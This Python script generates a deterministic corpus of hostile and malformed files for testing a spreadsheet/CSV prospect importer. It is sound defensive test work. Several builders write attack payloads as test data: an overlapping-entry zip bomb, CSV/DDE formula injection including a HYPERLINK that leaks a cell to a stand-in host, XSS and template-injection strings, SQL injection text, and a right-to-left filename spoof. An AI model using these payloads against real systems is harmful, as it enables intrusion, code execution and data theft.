"""(Re)create tests/data/bad/: small hostile or damaged files the importer must survive.

`python tools/make_bad_corpus.py` writes every file; `--check` writes nothing and exits with 1
when a committed file differs from what this script makes (or is missing, or is not made here).
Every file is built deterministically (fixed random seeds, fixed zip timestamps), so the corpus is
reviewable here, line by line: the function that makes a file says how and why it is hostile.

What each file must give (refused with which message, or imported with how many prospects) is in
tests/data/bad/EXPECTED.json; tests/importing/test_bad_corpus.py checks both. Files too big to
commit (a 10 MB line, 10,001 columns, a file over the size limit) are made by that test in a
temporary folder instead; README.md beside the corpus lists them.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import random
import struct
import sys
import zipfile
from collections.abc import Callable, Sequence
from datetime import datetime
from pathlib import Path

import xlsxwriter

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "tests" / "data" / "bad"
# Files in the folder that are not made by a builder below.
NOT_GENERATED = frozenset({"README.md", "EXPECTED.json"})

_ZIP_TIME = (1980, 1, 1, 0, 0, 0)
_FIXED_DATE = datetime(2027, 1, 1)

Builder = Callable[[], bytes]
BUILDERS: dict[str, Builder] = {}


def corpus_file(name: str) -> Callable[[Builder], Builder]:
    def register(builder: Builder) -> Builder:
        assert name not in BUILDERS, name
        BUILDERS[name] = builder
        return builder

    return register


def build_corpus() -> dict[str, bytes]:
    """Every corpus file's name and bytes."""
    return {name: builder() for name, builder in sorted(BUILDERS.items())}


# Helpers ------------------------------------------------------------------------------------


def _lines(*lines: str, newline: str = "\r\n", encoding: str = "utf-8") -> bytes:
    return (newline.join(lines) + newline).encode(encoding)


def _csv(rows: Sequence[Sequence[str]], *, delimiter: str = ";") -> bytes:
    """Rows as a CSV would save them: cells with a delimiter, quote or line break quoted."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode()


def _random_bytes(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _zip(entries: Sequence[tuple[str, bytes]], *, stored: Sequence[str] = ()) -> bytes:
    """A zip with fixed timestamps, entries in the given order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, _ZIP_TIME)
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(info, data, compresslevel=9)
    return buffer.getvalue()


def _xlsx(rows: Sequence[Sequence[object]], *, formulas: bool = False) -> bytes:
    """A real .xlsx from XlsxWriter; with `formulas`, a str starting with "=" is a formula whose
    cached result is the next item of a (formula, result) tuple."""
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_numbers": False})
    workbook.set_properties({"created": _FIXED_DATE})
    sheet = workbook.add_worksheet("Prospects")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is None:
                continue
            if formulas and isinstance(value, tuple):
                formula, result = value
                sheet.write_formula(r, c, formula, None, result)
            elif isinstance(value, str):
                sheet.write_string(r, c, value)
            else:
                sheet.write(r, c, value)
    workbook.close()
    return buffer.getvalue()


def _xml_text(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _ods(rows: Sequence[Sequence[str]]) -> bytes:
    ns = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"'
    )
    body = "".join(
        "<table:table-row>"
        + "".join(
            '<table:table-cell office:value-type="string">'
            f"<text:p>{_xml_text(cell)}</text:p></table:table-cell>"
            for cell in row
        )
        + "</table:table-row>"
        for row in rows
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns}>'
        '<office:body><office:spreadsheet><table:table table:name="Prospects">'
        f"{body}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return _zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
            ("content.xml", content.encode()),
            ("META-INF/manifest.xml", manifest.encode()),
        ],
        stored=("mimetype",),
    )


GOOD_ROWS = [
    ["Société", "Ville", "Code postal", "Téléphone"],
    ["Boulangerie Corpus", "Lyon", "69001", "04 78 00 00 01"],
    ["Garage Corpus", "Nantes", "44000", "02 40 00 00 02"],
]


# Not tables at all ------------------------------------------------------------------------


@corpus_file("random_binary.csv")
def random_binary() -> bytes:
    return _random_bytes(1, 4096)


@corpus_file("random_binary_no_nul.csv")
def random_binary_no_nul() -> bytes:
    """Random high bytes and control characters, but no NUL to give it away."""
    rng = random.Random(2)
    alphabet = [*range(1, 9), *range(14, 32), *range(0x80, 0x100)]
    return bytes(rng.choice(alphabet) for _ in range(4096))


@corpus_file("png_renamed.csv")
def png_renamed() -> bytes:
    ihdr = b"\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + ihdr + _random_bytes(3, 600)


@corpus_file("jpeg_renamed.csv")
def jpeg_renamed() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01" + _random_bytes(4, 600)


@corpus_file("pdf_renamed.csv")
def pdf_renamed() -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n"
        b"%%EOF\n"
    )


@corpus_file("gzip_renamed.csv")
def gzip_renamed() -> bytes:
    return gzip.compress(_lines(*(";".join(row) for row in GOOD_ROWS)), mtime=0)


@corpus_file("sqlite_renamed.csv")
def sqlite_renamed() -> bytes:
    return b"SQLite format 3\x00\x10\x00\x01\x01\x00@  " + bytes(480)


@corpus_file("html_saved_as.xls")
def html_saved_as_xls() -> bytes:
    """What some CRMs and "Save as web page" produce with an .xls name (BOM and blank first)."""
    return b"\xef\xbb\xbf\r\n" + _lines(
        '<html xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:x="urn:schemas-microsoft-com:office:excel">',
        '<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>',
        "<body><table>",
        "<tr><td>Société</td><td>Ville</td></tr>",
        "<tr><td>HTML Corpus</td><td>Lyon</td></tr>",
        "</table></body></html>",
    )


@corpus_file("spreadsheetml_2003.xls")
def spreadsheetml_2003() -> bytes:
    return _lines(
        '<?xml version="1.0"?>',
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">',
        '<Worksheet ss:Name="Prospects"><Table><Row><Cell><Data ss:Type="String">Société'
        "</Data></Cell></Row></Table></Worksheet></Workbook>",
    )


@corpus_file("word_renamed.xlsx")
def word_renamed() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
        ]
    )


@corpus_file("two_csv_zipped.xlsx")
def two_csv_zipped() -> bytes:
    """A plain archive with two tables in it: which one would the rep mean?"""
    table = _lines(*(";".join(row) for row in GOOD_ROWS))
    return _zip([("nord.csv", table), ("sud.csv", table)])


@corpus_file("fake_ole2.xls")
def fake_ole2() -> bytes:
    """The legacy .xls signature followed by garbage."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _random_bytes(5, 2048)


@corpus_file("truncated.xlsx")
def truncated_xlsx() -> bytes:
    """A real workbook cut in the middle of the download: no central directory."""
    whole = _xlsx(GOOD_ROWS)
    return whole[: len(whole) // 2]


@corpus_file("zip_bomb.xlsx")
def zip_bomb() -> bytes:
    """A few dozen KB whose directory lists 100 sheets of 24 MiB each (2.5 GB in all).

    One deflated run of 24 MiB of zeros is stored once; every central directory entry points at
    it (the "overlapping files" bomb), so anything that inflates the listed parts writes
    gigabytes. The reader must refuse it from the directory alone.
    """
    sheet = b"\x00" * (24 << 20)
    base = _zip(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("xl/workbook.xml", b'<?xml version="1.0"?><workbook/>'),
            ("xl/worksheets/sheet1.xml", sheet),
        ]
    )
    end = base.rindex(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack_from("<II", base, end + 12)
    directory = base[cd_offset : cd_offset + cd_size]
    record = b""
    at = 0
    while at < len(directory):
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", directory, at + 28)
        size = 46 + name_length + extra_length + comment_length
        if directory[at + 46 : at + 46 + name_length] == b"xl/worksheets/sheet1.xml":
            record = directory[at : at + size]
        at += size
    assert record[:4] == b"PK\x01\x02" and not record[46 + 24 :], "no plain sheet1 record"
    copies = []
    for index in range(2, 101):
        name = f"xl/worksheets/sheet{index}.xml".encode()
        header = bytearray(record[:46])
        struct.pack_into("<H", header, 28, len(name))
        copies.append(bytes(header) + name)
    new_directory = directory + b"".join(copies)
    eocd = bytearray(base[end : end + 22])
    entries = struct.unpack_from("<H", eocd, 10)[0] + len(copies)
    struct.pack_into("<HHI", eocd, 8, entries, entries, len(new_directory))
    return base[:cd_offset] + new_directory + bytes(eocd)


@corpus_file("bom_only_utf16.csv")
def bom_only_utf16() -> bytes:
    return b"\xff\xfe"


@corpus_file("empty.csv")
def empty() -> bytes:
    return b""


@corpus_file("whitespace_only.csv")
def whitespace_only() -> bytes:
    return b" \t \r\n\r\n   \n\t\t\r\n" * 8


@corpus_file("only_delimiters.csv")
def only_delimiters() -> bytes:
    """What a spreadsheet saves for a sheet whose cells were cleared but kept their format."""
    return _lines(*[";;;;;;"] * 12)


@corpus_file("only_delimiters_mixed.csv")
def only_delimiters_mixed() -> bytes:
    """Every delimiter at once: whichever is chosen, the "cells" left are punctuation."""
    return _lines(*([";;;;;;", ",,,,,,", "\t\t\t", "|||"] * 4))


@corpus_file("header_only.csv")
def header_only() -> bytes:
    return _lines(";".join(GOOD_ROWS[0]), ";;;", "")


@corpus_file("nul_in_text.csv")
def nul_in_text() -> bytes:
    return _lines("Société;Ville", "NUL Corpus;Lyon", "Autre\x00Corpus;Nice", "Fin;Pau")


@corpus_file("unbalanced_quotes.csv")
def unbalanced_quotes() -> bytes:
    """A quote opened on line 3 and never closed: every row after it would become one cell."""
    lines = ["Société;Ville;Téléphone", "Quote Corpus;Lyon;0478000001", 'Ouvert;"Nice;0493000002']
    lines += [f"Avalée {index};Pau;05590000{index:02d}" for index in range(30)]
    return _lines(*lines)


@corpus_file("control_characters_many.csv")
def control_characters_many() -> bytes:
    """A terminal dump: escape sequences and bells everywhere."""
    rows = ["Société;Ville"] + [f"\x1b[31mCtrl {i}\x1b[0m\x07;\x08\x08Lyon\x01" for i in range(40)]
    return _lines(*rows)


@corpus_file("no_recognisable_column.csv")
def no_recognisable_column() -> bytes:
    return _lines("colour;size;weight", "red;XL;12", "blue;M;8")


# Damaged or odd, but a table: these import ---------------------------------------------


@corpus_file("nul_padded.csv")
def nul_padded() -> bytes:
    """A crash while saving left the end of the file as zeros."""
    return _lines("Société;Ville", "Padding Corpus;Lyon", "Zéros Corpus;Nice") + bytes(8192)


@corpus_file("mixed_newlines.csv")
def mixed_newlines() -> bytes:
    return (
        "Société;Ville\r\n"
        "Newline CRLF;Lyon\r\n"
        "Newline LF;Nice\n"
        "Newline CR;Pau\r"
        'Newline Quoted;"Metz\r\nnord"\n'
        "Newline Last;Dax"
    ).encode()


@corpus_file("bom_in_middle.csv")
def bom_in_middle() -> bytes:
    """Two exports glued together, each with its BOM and its header."""
    first = _lines("Société;Ville", "Joint Un;Lyon", encoding="utf-8-sig")
    second = _lines("Société;Ville", "Joint Deux;Nice", encoding="utf-8-sig")
    return first + second


@corpus_file("invalid_utf8.csv")
def invalid_utf8() -> bytes:
    """UTF-8, but one line was pasted from a Windows-1252 file."""
    head = _lines("Société;Ville", "Éric Boulangerie;Orléans", "Zoé Fleurs;Besançon")
    return head + "René Café;Sète\r\n".encode("cp1252") + b"Octets \xff\xfe Fous;Lyon\r\n"


@corpus_file("utf16_no_bom.csv")
def utf16_no_bom() -> bytes:
    return _lines("Société\tVille", "Hôtel Sans BOM\tAngoulême", encoding="utf-16-le")


@corpus_file("utf32_bom.csv")
def utf32_bom() -> bytes:
    return "Société;Ville\r\nUTF32 Café;Orléans\r\n".encode("utf-32")


@corpus_file("cp1252_whole_file.csv")
def cp1252_whole_file() -> bytes:
    return _lines("Société;Ville;Notes", "Crêperie Œuvre;Besançon;Reçu 50 €", encoding="cp1252")


@corpus_file("ragged_rows.csv")
def ragged_rows() -> bytes:
    return _lines(
        "Société;Ville;Code postal;Téléphone",
        "Ragged Complet;Lyon;69001;0478000001",
        "Ragged Court;Nice",
        "Ragged Seul",
        "Ragged Long;Pau;64000;0559000001;en trop;encore;et encore",
        "Ragged Vide;;;;;;;;;;;;;",
    )


@corpus_file("ten_thousand_columns.csv")
def ten_thousand_columns() -> bytes:
    """Exactly the column limit (10,000): read, with the far columns empty."""
    header = ["Société", "Ville", *[""] * 9997, "Commentaire"]
    row = ["Colonnes Corpus", "Lyon", *[""] * 9997, "dernière colonne"]
    return _lines(";".join(header), ";".join(row))


@corpus_file("duplicate_headers.csv")
def duplicate_headers() -> bytes:
    return _lines(
        "Société;Ville;Société;Téléphone;Téléphone;Ville",
        "Doublon Premier;Lyon;Doublon Second;0478000001;0478000002;Villeurbanne",
    )


@corpus_file("xlsx_renamed.csv")
def xlsx_renamed() -> bytes:
    return _xlsx([*GOOD_ROWS[:1], ["Tableur Renommé", "Lyon", "69001", "04 78 00 00 03"]])


@corpus_file("spreadsheet.ods")
def spreadsheet_ods() -> bytes:
    return _ods([["Société", "Ville"], ["Calc <Corpus> & Cie", "Rennes"]])


@corpus_file("single_csv_zipped.zip")
def single_csv_zipped() -> bytes:
    """A download zipped by the browser: the one CSV inside is read."""
    table = _lines("Société;Ville", "Zippé Corpus;Brest")
    return _zip([("__MACOSX/._export.csv", b"\x00\x05\x16\x07"), ("export.csv", table)])


@corpus_file("formulas_and_errors.xlsx")
def formulas_and_errors() -> bytes:
    return _xlsx(
        [
            ["Société", "Ville", "Téléphone", "Commentaire"],
            [('="Formule "&"Corpus"', "Formule Corpus"), "Lyon", ("=1/0", "#DIV/0!"), "a"],
            ["Erreur Corpus", ("=NA()", "#N/A"), "0478000001", ("=UNKNOWN()", "#NAME?")],
            [('=HYPERLINK("http://example.invalid","Lien")', "Lien"), "Nice", 1e308, 3.5],
        ],
        formulas=True,
    )


@corpus_file("nested_quotes.csv")
def nested_quotes() -> bytes:
    deep = '"' * 64 + "citation" + '"' * 64
    value = f'Il a dit "{deep}" puis ""ok""'
    quoted = '"' + value.replace('"', '""') + '"'
    return _lines("Société;Ville;Notes", f"Guillemets Corpus;Lyon;{quoted}")


@corpus_file("control_characters_few.csv")
def control_characters_few() -> bytes:
    return _lines("Société;Ville", "Contrôle\x07 Corpus;Ly\x1bon", "Tabulé\tCorpus;Nice")


@corpus_file("long_cell.csv")
def long_cell() -> bytes:
    """One note of 60,000 characters (a whole e-mail thread pasted in a cell)."""
    note = ("Relancer le client au sujet du devis. " * 1600)[:60_000]
    return _lines("Société;Ville;Notes", f"Long Corpus;Lyon;{note}")


@corpus_file("csv_injection.csv")
def csv_injection() -> bytes:
    """Formulas a spreadsheet would run if the text went back out unneutralised."""
    return _csv(
        [
            ["Société", "Ville", "Notes"],
            ["=cmd|' /C calc'!A0", "Lyon", "=1+1"],
            ["@SUM(1+1)*cmd|' /C calc'!A0", "Nice", "@SUM(A1:A9)"],
            ['+HYPERLINK("http://evil.invalid/?leak="&A1;"clic")', "Pau", "+33 4 78 00 00 00"],
            ["-2+3+cmd|' /C calc'!A0", "Dax", "-1"],
            ["=TAB Corpus", "Metz", "\t=1+2"],
            ["=CR Corpus", "Brest", "\r=1+3"],
        ]
    )


@corpus_file("html_in_fields.csv")
def html_in_fields() -> bytes:
    return _lines(
        "Société;Contact;Ville;Notes",
        '<script>window.__pwned=1</script>;<img src=x onerror="window.__pwned=1">;'
        '"""><svg onload=alert(1)>";javascript:alert(1)',
        "<b>Gras</b> & Cie;</textarea><iframe src=javascript:alert(1)>;Lyon;{{7*7}} ${7*7}",
    )


@corpus_file("sql_text.csv")
def sql_text() -> bytes:
    return _csv(
        [
            ["Société", "Ville", "Notes"],
            ["'; DROP TABLE prospect; --", "Lyon", "Robert'); DELETE FROM prospect;--"],
            ["1' OR '1'='1", "Nice", '" OR ""="'],
            ["%_% Corpus", "Pau", "'' UNION SELECT * FROM sqlite_master --"],
        ]
    )


@corpus_file("emoji_rtl.csv")
def emoji_rtl() -> bytes:
    return _lines(
        "Société;Contact;Ville;Notes",
        "Café 🚀🇫🇷 Corpus;Zoë 👩🏽‍💻;Lyon;😀",
        "شركة التجارة;דוד כהן;Marseille;\u202egnp.exe\u202c texte inversé",
        "Z\u0351\u0352a\u0353l\u0354g\u0355o Corpus;e\u0301\u0301\u0301;Nice;\u200b\ufeff\u00ad",
    )


@corpus_file("one_valid_row_in_garbage.csv")
def one_valid_row_in_garbage() -> bytes:
    rng = random.Random(6)
    noise = [
        ";".join("".join(rng.choice("#~^`$!?§") for _ in range(5)) for _ in range(3))
        for _ in range(6)
    ]
    return _lines(
        "Rapport généré le 01/01/2027",
        "",
        "Société;Ville;Téléphone",
        ";;",
        " ; ; ",
        "Seule Valide;Lyon;0478000009",
        ";;;;;;;;;;;",
        *[f";{line}" for line in noise],
        ";???;",
    )


@corpus_file("impossible_dates.csv")
def impossible_dates() -> bytes:
    return _lines(
        "Société;Ville;Relance le;Dernier contact",
        "Date Trente-et-un;Lyon;31/02/2027;30/02/2027",
        "Date Treize;Nice;00/13/2027;32/01/2027",
        "Date Lointaine;Pau;01/01/9999;01/01/0001",
        "Date Texte;Dax;demain;la semaine dernière",
    )


@corpus_file("phone_junk.csv")
def phone_junk() -> bytes:
    return _lines(
        "Société;Ville;Téléphone;Portable",
        "Tel Aucun;Lyon;n/a;-",
        "Tel Texte;Nice;appeler le standard;0",
        "Tel Long;Pau;+33 (0)6 12 34 56 78 poste 1234;06123456789012345678",
        "Tel Zéros;Dax;0000000000;+++",
        "Tel Lettres;Metz;01-ABC-DEF;06 12 34 56 78",
    )


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="compare, write nothing")
    args = parser.parse_args(argv)
    corpus = build_corpus()
    if args.check:
        stale = [
            name
            for name, data in corpus.items()
            if not (CORPUS / name).is_file() or (CORPUS / name).read_bytes() != data
        ]
        extra = sorted(
            path.name
            for path in CORPUS.iterdir()
            if path.name not in corpus and path.name not in NOT_GENERATED
        )
        for name in stale:
            print(f"differs from the generator: {name}", file=sys.stderr)
        for name in extra:
            print(f"not made by the generator: {name}", file=sys.stderr)
        return 1 if stale or extra else 0
    CORPUS.mkdir(parents=True, exist_ok=True)
    for name, data in corpus.items():
        (CORPUS / name).write_bytes(data)
    total = sum(len(data) for data in corpus.values())
    print(f"{len(corpus)} files, {total:,} bytes in {CORPUS.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
